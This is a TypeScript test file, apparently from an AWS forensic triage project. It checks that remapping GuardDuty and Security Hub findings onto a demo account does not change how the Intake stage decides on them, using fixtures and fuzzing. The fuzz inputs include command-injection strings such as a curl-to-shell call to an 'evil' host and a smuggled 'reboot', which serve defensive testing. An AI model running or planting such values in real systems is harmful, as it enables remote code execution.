import { readdirSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { securityHubFindingOf } from '../../functions/core/securityhub.js';
import { type Normalised, normaliseTrigger } from '../../functions/forensics/intake-finding/normalise.js';
import { mapEvent } from '../../scripts/local/map-event.js';
import { repoRoot } from '../../scripts/local/runner.js';
import { readRealEvent, realEventFiles, settingsOf, withAccount } from '../support/intake-fixtures.js';

/**
 * The demo's mapping puts a finding onto the emulated account. Whatever the finding, Intake must decide
 * on the mapped copy what it decides on the finding itself: the same refusal, or the same case placed
 * on the seeded instance.
 */

const to = { instanceId: 'i-0123456789abcdef0', accountId: '123456789012', region: 'us-east-1' };
// Intake as the demo's stack runs it: at home in the emulated account, the `dev` stage's settings.
const settings = settingsOf({
  CORDON_ACCOUNT_ID: to.accountId,
  AWS_REGION: to.region,
  MIN_SEVERITY: 1,
  ACCEPT_SAMPLE_FINDINGS: true,
  ACCEPT_SECURITYHUB_IMPORTED: false,
  SECURITYHUB_ACTION_ID: 'ForensicTriageAction',
});
const now = new Date('2026-11-27T20:10:03.123Z');
const decide = (event: unknown) => normaliseTrigger(event, settings, now);

const demoFixturesDir = resolve(repoRoot, 'test/fixtures/demo');
const demoFixtures = readdirSync(demoFixturesDir)
  .filter((f) => f.endsWith('.json'))
  .sort();
const readDemoFixture = (file: string): unknown =>
  JSON.parse(readFileSync(resolve(demoFixturesDir, file), 'utf8'));

/** What Intake decides on the mapped copy, given its decision on the original. */
function placed(original: Normalised): Normalised {
  if ('rejected' in original) return original;
  return { ok: { ...original.ok, ...to, partition: 'aws' } };
}

/** Every leaf that differs, as `path: before -> after`. */
function changes(before: unknown, after: unknown, path = '$', out: string[] = []): string[] {
  if (before && after && typeof before === 'object' && typeof after === 'object') {
    const keys = new Set([...Object.keys(before), ...Object.keys(after)]);
    for (const key of keys) {
      changes(
        (before as Record<string, unknown>)[key],
        (after as Record<string, unknown>)[key],
        `${path}.${key}`,
        out,
      );
    }
  } else if (!Object.is(before, after)) {
    out.push(`${path}: ${JSON.stringify(before)} -> ${JSON.stringify(after)}`);
  }
  return out;
}

describe('mapEvent', () => {
  it.each(realEventFiles())(
    'leads Intake to the same decision on %s, placed on the seeded instance',
    (file) => {
      const event = readRealEvent(file);
      // The API fixtures' account is redacted to `id`, which Intake refuses: compare with a real account.
      const original = file.startsWith('gd_api_') ? withAccount(event, '444455556666') : event;

      expect(decide(mapEvent(original, to).event)).toEqual(placed(decide(original)));
    },
  );

  it.each(demoFixtures)('leads Intake to the same decision on the test fixture %s', (file) => {
    const event = readDemoFixture(file);

    expect(decide(mapEvent(event, to).event)).toEqual(placed(decide(event)));
  });

  it('replaces a redacted account word, as the published get-findings samples have it', () => {
    const event = readRealEvent('gd_api_getfindings_backdoor_cc_activity_b_dns_count3.json');

    const { event: mapped, mapping } = mapEvent(event, to);

    expect(decide(event)).toEqual({ rejected: 'MALFORMED: the account id is not 12 digits' });
    expect(decide(mapped)).toMatchObject({ ok: { ...to } });
    expect(mapping.from).toEqual({ instanceId: 'i-99999999', accountId: 'id', region: 'us-east-2' });
  });

  it('changes only the fields Intake reads: a GuardDuty finding in eu-west-1 inside a us-east-1 envelope', () => {
    const event = readDemoFixture('gd_eb_envelope_finding_in_eu_west_1.json');

    const { event: mapped, mapping } = mapEvent(event, to);

    expect(changes(event, mapped)).toEqual([
      '$.detail.accountId: "111122223333" -> "123456789012"',
      '$.detail.region: "eu-west-1" -> "us-east-1"',
      '$.detail.arn: "arn:aws:guardduty:eu-west-1:111122223333:detector/123456789012/finding/16afba5c5c43e07c9e3e5e2e544e95df" -> "arn:aws:guardduty:us-east-1:123456789012:detector/123456789012/finding/16afba5c5c43e07c9e3e5e2e544e95df"',
      '$.detail.resource.instanceDetails.instanceId: "i-05746eb48123455e0" -> "i-0123456789abcdef0"',
    ]);
    expect(mapping.from).toEqual({
      instanceId: 'i-05746eb48123455e0',
      accountId: '111122223333',
      region: 'eu-west-1',
    });
  });

  it('moves a GuardDuty finding’s ARN with the finding, its account a redacted word or not, so that Intake finds it in Security Hub', () => {
    const event = readRealEvent('gd_api_getfindings_backdoor_cc_activity_b_dns_count3.json');

    const { event: mapped } = mapEvent(event, to);

    expect((mapped as { Arn: string }).Arn).toBe(
      'arn:aws:guardduty:us-east-1:123456789012:detector/detector_id/finding/14bd952561ab40e0b9275f648fcca0f2',
    );
    const placed = decide(mapped) as { ok: { trigger: { findingId: string } } };
    expect(securityHubFindingOf(mapped, { ...to, findingId: placed.ok.trigger.findingId })).toEqual({
      id: (mapped as { Arn: string }).Arn,
      productArn: 'arn:aws:securityhub:us-east-1::product/aws/guardduty',
    });
  });

  it('leaves a finding ARN that names another account than the finding, as Intake would leave Security Hub', () => {
    const event = readRealEvent('gd_detail_canary_ec2_stateless_integtest.json');
    const foreign =
      'arn:aws:guardduty:us-east-1:999999999999:detector/d1/finding/16afba5c5c43e07c9e3e5e2e544e95df';

    const { event: mapped } = mapEvent({ ...event, accountId: '111122223333', arn: foreign }, to);

    expect((mapped as { arn: string }).arn).toBe(foreign);
  });

  it('changes only the instance ARN of a Security Hub custom action, where the id is only inside it', () => {
    const event = readRealEvent('sh_eb_custom_action_ec2_instance_afsbp_ec2_8.json');

    const { event: mapped } = mapEvent(event, to);

    expect(changes(event, mapped)).toEqual([
      '$.detail.findings.0.Resources.0.Id: "arn:aws:ec2:ap-southeast-2:123456789012:instance/i-0bf2bf6b175654c6e" -> "arn:aws:ec2:us-east-1:123456789012:instance/i-0123456789abcdef0"',
    ]);
  });

  it('keeps the published ARN typo (arn:aws::ec2) while it replaces the instance and account', () => {
    const event = readRealEvent('gd_asff_sshbruteforce_real_count74_from_docs.json');

    const { event: mapped } = mapEvent(event, to);

    expect(changes(event, mapped)).toEqual([
      '$.AwsAccountId: "193043430472" -> "123456789012"',
      '$.Resources.0.Id: "arn:aws::ec2:us-east-1:193043430472:instance/i-0c10c2c7863d1a356" -> "arn:aws::ec2:us-east-1:123456789012:instance/i-0123456789abcdef0"',
    ]);
  });

  it('moves the partition with the region, so that an instance in China still matches its ARN', () => {
    const event = structuredClone(readRealEvent('gd_asff_sshbruteforce_real_count74_from_docs.json'));
    const resources = event.Resources as { Id: string }[];
    (resources[0] as { Id: string }).Id =
      'arn:aws-cn:ec2:cn-north-1:193043430472:instance/i-0c10c2c7863d1a356';

    const { event: mapped } = mapEvent(event, to);

    expect(decide(mapped)).toMatchObject({ ok: { ...to, partition: 'aws' } });
  });

  it.each(demoFixtures.filter((f) => /instance_(id|arn)/.test(f)))(
    'leaves %s exactly as it came, and names the instance id it kept',
    (file) => {
      const event = readDemoFixture(file);

      const { event: mapped, mapping } = mapEvent(event, to);

      expect(mapped).toEqual(event);
      expect(mapping.from).toEqual({});
      expect(mapping.kept.map((k) => k.what)).toEqual(['instance id']);
    },
  );

  it('does not read a finding about another kind of resource, though it carries instance details', () => {
    const event = readRealEvent(
      'gd_detail_REJECT_accesskey_recon_maliciousipcaller_custom_sample_archived.json',
    );

    const { event: mapped, mapping } = mapEvent(event, to);

    expect(mapped).toEqual(event);
    expect(mapping).toEqual({ from: {}, to, kept: [] });
  });

  it('maps a manual start, and leaves a region Intake would refuse', () => {
    const start = {
      instanceId: 'i-0aaaaaaaaaaaaaaaa',
      region: 'eu-west-1\u001b[2J',
      reason: 'test',
      requestedBy: 'test',
    };

    const { event: mapped, mapping } = mapEvent(start, to);

    expect(mapped).toEqual({ ...start, instanceId: to.instanceId });
    expect(mapping.kept).toEqual([{ what: 'region', value: 'eu-west-1\u001b[2J' }]);
    expect(decide(mapped)).toEqual(decide(start));
  });

  it.each([null, 0, false, '', 42, 'i-0123456789abcdef0', [], [{}]].map((value) => [value]))(
    'passes %j through unchanged',
    (value) => {
      expect(mapEvent(value, to).event).toEqual(value);
    },
  );

  it('does not change the event it is given', () => {
    const event = readRealEvent('gd_detail_canary_ec2_stateless_integtest.json');
    const before = structuredClone(event);

    mapEvent(event, to);

    expect(event).toEqual(before);
  });
});

/** Values that land where Intake reads the instance, account and region, well formed or not. */
const replacement = fc.constantFrom<unknown>(
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's ${IFS} is the payload
  'i-0abc;curl${IFS}evil|sh',
  'i-99999999\u001b[2J',
  'i-0fedcba9876543210',
  'i-abcdef01',
  'I-ABCDEF01',
  'eu-west-1',
  'cn-north-1',
  'us-gov-west-1',
  'eu-west-1\n',
  'moon-1',
  '111122223333',
  '1111222233334',
  '12345678901\u202e',
  '',
  null,
  7,
  true,
  {},
  [],
  'arn:aws:ec2:eu-west-1:111122223333:instance/i-0fedcba9876543210',
  'arn:aws-cn:ec2:eu-west-1:111122223333:instance/i-0fedcba9876543210',
  'arn:aws:ec2:::instance/i-0fedcba9876543210',
  'arn:aws::ec2:eu-west-1:111122223333:instance/i-0abc;reboot',
);

type Path = (string | number)[];

/** Every place the instance, account or region can sit in the shapes Intake reads. */
function pathsOf(value: unknown, prefix: Path = [], out: Path[] = []): Path[] {
  if (Array.isArray(value)) {
    for (const [i, item] of value.entries()) pathsOf(item, [...prefix, i], out);
  } else if (value !== null && typeof value === 'object') {
    for (const [key, item] of Object.entries(value)) {
      if (/^(instanceId|accountId|account|region|AwsAccountId|Id)$/i.test(key)) out.push([...prefix, key]);
      pathsOf(item, [...prefix, key], out);
    }
  }
  return out;
}

function withValue(event: unknown, path: Path, value: unknown): unknown {
  const copy = structuredClone(event) as Record<string | number, unknown>;
  let at = copy;
  for (const key of path.slice(0, -1)) at = at[key] as Record<string | number, unknown>;
  at[path.at(-1) as string | number] = value;
  return copy;
}

const seeds = realEventFiles().map((file) => {
  const event = readRealEvent(file);
  return file.startsWith('gd_api_') ? withAccount(event, '444455556666') : event;
});

describe('mapEvent on damaged findings', () => {
  it('leads Intake to the same decision as the finding itself, whatever lands where Intake looks', () => {
    const damaged = fc
      .constantFrom(...seeds)
      .chain((seed) =>
        fc.tuple(
          fc.constant(seed),
          fc.array(fc.tuple(fc.constantFrom(...pathsOf(seed)), replacement), { minLength: 1, maxLength: 3 }),
        ),
      )
      .map(([seed, edits]) =>
        edits.reduce<unknown>((event, [path, value]) => withValue(event, path, value), seed),
      );

    fc.assert(
      fc.property(damaged, (event) => {
        expect(decide(mapEvent(event, to).event)).toEqual(placed(decide(event)));
      }),
      { numRuns: 2000, seed: 11 },
    );
  });
});
